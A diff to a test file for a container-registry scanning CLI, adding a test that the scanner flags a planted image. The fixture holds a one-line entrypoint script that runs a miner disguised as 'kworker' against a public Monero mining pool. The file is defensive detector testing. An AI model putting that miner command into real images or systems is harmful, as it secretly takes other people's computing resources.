@@ -68,21 +68,30 @@ describe('nomine probe (CLI)', () => {
     assert.match(none.stderr, /name at least one target/);
   });
 
-  it('--scan-registries lists the images of an open registry and names the scan command', async () => {
+  it('--scan-registries scans every image of an open registry and reports the miner slipped into one', async () => {
     await pushImage(registry.host, 'team/app', '1');
+    const miner = '#!/bin/sh\nexec /opt/kworker -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1 --cpu-priority 0\n';
+    await pushImage(registry.host, 'team/app', '2', [{ path: 'entrypoint.sh', content: miner, mode: 0o755 }]);
     const result = await probeCli([registry.host, '--scan-registries', '--json'], home);
     assert.equal(result.code, 1, describeRun(result));
     const report = parseStdout(result);
     assert.equal(report.followUps.length, 1);
-    assert.equal(report.followUps[0].command, `nomine scan registry ${registry.host} --insecure`);
-    assert.equal(report.followUps[0].error, undefined);
-    assert.deepEqual(report.followUps[0].images, [`docker://${registry.host}/team/app:1`]);
+    const [followUp] = report.followUps;
+    assert.equal(followUp.command, `nomine scan registry ${registry.host} --insecure`);
+    assert.equal(followUp.error, undefined);
+    assert.deepEqual([...followUp.images].sort(), [`docker://${registry.host}/team/app:1`, `docker://${registry.host}/team/app:2`]);
+    assert.equal(followUp.scan.images, 2);
+    assert.deepEqual(followUp.scan.errors, []);
+    assert.deepEqual(
+      followUp.scan.findings.map((finding: { image: string; what: string }) => `${finding.image} ${finding.what}`),
+      [`docker://${registry.host}/team/app:2 /entrypoint.sh`],
+    );
   });
 });
 
 /** Pushes a one-layer image through the upload API (POST, then PUT ?digest= per blob, then PUT of the manifest). */
-async function pushImage(host: string, repository: string, tag: string): Promise<void> {
-  const layer = await makeLayer({ files: [{ path: 'hello.txt', content: 'hi' }] }, 'gzip');
+async function pushImage(host: string, repository: string, tag: string, files: { path: string; content: string; mode?: number }[] = [{ path: 'hello.txt', content: 'hi' }]): Promise<void> {
+  const layer = await makeLayer({ files }, 'gzip');
   const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [layer.diffId] }, config: {} }));
   for (const blob of [layer.blob, config]) {
     const start = await fetch(`http://${host}/v2/${repository}/blobs/uploads/`, { method: 'POST' });
